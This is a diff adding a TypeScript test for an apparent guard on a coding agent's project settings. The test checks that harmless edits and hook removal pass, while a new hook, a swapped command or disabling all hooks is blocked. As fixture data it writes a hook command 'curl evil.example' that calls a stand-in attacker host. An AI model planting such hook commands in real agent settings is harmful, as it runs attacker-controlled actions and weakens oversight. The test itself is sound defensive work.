@@ -135,3 +135,38 @@ test("a change of settings that keeps our hooks is let through; one that weakens
 	assert.ok(!JSON.stringify(entries).includes("abcdef0123456789"), "a hook's command may hold a secret");
 	assert.ok(warned(gate).includes("gate.configBlocked"));
 });
+
+test("beside a hook that was there from the start, harmless changes and its removal go through; a new one and another command do not", async (t) => {
+	const at = gatePlace(t);
+	mkdirSync(join(at.folder, ".claude"));
+	const file = join(at.folder, ".claude/settings.json");
+	const settings = (more: object, ...commands: string[]) => {
+		const hooks = commands.map((command) => ({ type: "command", command }));
+		writeFileSync(
+			file,
+			JSON.stringify({ ...(hooks.length > 0 ? { hooks: { PreToolUse: [{ hooks }] } } : {}), ...more }),
+		);
+	};
+	settings({}, "lint");
+	const gate = await testGate(t, { connected: true }, at);
+	const members = { hook_event_name: "ConfigChange", source: "project_settings", file_path: file };
+	const exit = async () => (await (await gate.call("Stop", { members })).reply()).exit;
+	await (await gate.call("SessionStart-startup")).reply();
+	settings({ model: "opus" }, "lint");
+	assert.equal(await exit(), 0, "a harmless member");
+	settings({ model: "opus" }, "lint", "curl evil.example");
+	assert.equal(await exit(), 2, "a second hook");
+	settings({ model: "sonnet" }, "lint", "curl evil.example");
+	assert.equal(await exit(), 2, "what was kept out is still new");
+	settings({}, "curl evil.example");
+	assert.equal(await exit(), 2, "another command in the old one's place");
+	settings({});
+	assert.equal(await exit(), 0, "none any more");
+	settings({ disableAllHooks: true });
+	assert.equal(await exit(), 2, "no hook at all, ours neither");
+	const changed = (await gate.verified()).filter(({ type, body }) => type === "agent.changed" && "blocked" in body);
+	assert.deepEqual(
+		changed.map(({ body }) => body.blocked),
+		[false, true, true, true, false, true],
+	);
+});
